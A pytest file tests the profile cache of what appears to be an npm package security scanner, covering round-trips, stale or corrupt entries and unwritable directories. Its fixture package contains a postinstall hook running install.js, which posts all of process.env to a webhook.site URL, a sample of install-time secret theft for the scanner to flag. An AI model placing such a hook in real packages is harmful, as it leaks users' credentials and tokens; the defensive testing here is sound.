from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from scanner.behaviour import cache as cache_module
from scanner.behaviour import profile as profile_module
from scanner.behaviour.cache import (
    CACHE_FOLDER,
    ProfileCache,
    profile_from_json,
    profile_to_json,
)
from scanner.behaviour.profile import cached_profile, profile_archive
from scanner.tarball.archive import read_package
from tests.tarball.builders import package

INTEGRITY = "sha512-AAAA"


def _archive():  # type: ignore[no-untyped-def]
    data = package(
        "p",
        "1.0.0",
        {
            "install.js": "fetch('https://webhook.site/x', {body: JSON.stringify(process.env)})",
            "bin/x": b"\x7fELF" + b"\0" * 64,
        },
        scripts={"postinstall": "node install.js && node -e \"require('./install')\""},
    )
    return read_package(data, "p@1.0.0")


def test_round_trip() -> None:
    profile = profile_archive(_archive())
    assert profile_from_json(json.loads(json.dumps(profile_to_json(profile)))) == profile


def test_cached_profile_reads_what_it_wrote(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    first = cached_profile(_archive(), INTEGRITY, tmp_path)
    assert len(list((tmp_path / CACHE_FOLDER).glob("*.json"))) == 1

    def fail(*args: object, **kwargs: object) -> None:
        raise AssertionError("analysed again")

    monkeypatch.setattr(profile_module, "profile_archive", fail)
    assert cached_profile(_archive(), INTEGRITY, tmp_path) == first


@pytest.mark.parametrize(
    "content",
    ['{"format": 1, "subject": 3}', '{"format": 999}', "not json", '{"format": 1}', "[]"],
)
def test_unreadable_or_other_format_entries_are_ignored(tmp_path: Path, content: str) -> None:
    cache = ProfileCache(tmp_path)
    cache.put(INTEGRITY, profile_archive(_archive()))
    [entry] = (tmp_path / CACHE_FOLDER).glob("*.json")
    entry.write_text(content)
    assert cache.get(INTEGRITY) is None
    assert cached_profile(_archive(), INTEGRITY, tmp_path).subject == "p@1.0.0"


def test_no_integrity_or_no_directory_caches_nothing(tmp_path: Path) -> None:
    cache = ProfileCache(tmp_path)
    cache.put(None, profile_archive(_archive()))
    assert not (tmp_path / CACHE_FOLDER).exists()
    ProfileCache(None).put(INTEGRITY, profile_archive(_archive()))
    assert ProfileCache(None).get(INTEGRITY) is None


def test_an_unwritable_cache_only_costs_time(tmp_path: Path) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("x")
    profile = cached_profile(_archive(), INTEGRITY, blocker)
    assert profile.subject == "p@1.0.0"


def test_entry_written_by_another_version_of_the_analysis_is_ignored(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    cache = ProfileCache(tmp_path)
    cache.put(INTEGRITY, profile_archive(_archive()))
    assert cache.get(INTEGRITY) is not None
    # The same tarball profiled by changed signal code must be analysed again.
    monkeypatch.setattr(cache_module, "analysis_fingerprint", lambda: "0" * 16)
    assert cache.get(INTEGRITY) is None


def test_fingerprint_follows_the_analysis_source() -> None:
    fingerprint = cache_module.analysis_fingerprint()
    assert len(fingerprint) == 16 and fingerprint == cache_module.analysis_fingerprint()
    assert cache_module.entry_format().endswith(fingerprint)


def test_a_fifo_in_place_of_an_entry_is_ignored_without_waiting(tmp_path: Path) -> None:
    cache = ProfileCache(tmp_path)
    cache.put(INTEGRITY, profile_archive(_archive()))
    [entry] = (tmp_path / CACHE_FOLDER).glob("*.json")
    entry.unlink()
    os.mkfifo(entry)  # a plain open() of a FIFO with no writer blocks forever
    assert cache.get(INTEGRITY) is None
